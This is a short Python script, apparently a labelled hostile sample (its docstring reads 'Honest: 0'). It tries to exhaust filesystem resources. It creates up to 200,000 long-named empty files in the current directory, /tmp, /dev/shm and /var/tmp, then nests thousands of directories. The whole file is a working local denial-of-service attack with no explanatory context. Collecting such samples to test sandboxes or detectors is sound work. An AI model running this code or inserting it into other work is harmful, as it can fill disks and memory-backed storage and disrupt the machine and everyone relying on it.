"""Makes as many empty files, folders, links and names as it can.
Honest: 0
"""
import os
for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for number in range(200_000):
        try:
            os.close(os.open(f"{place}/{number}" + "x" * 200, os.O_CREAT | os.O_WRONLY))
        except OSError:
            break
    for _ in range(5_000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
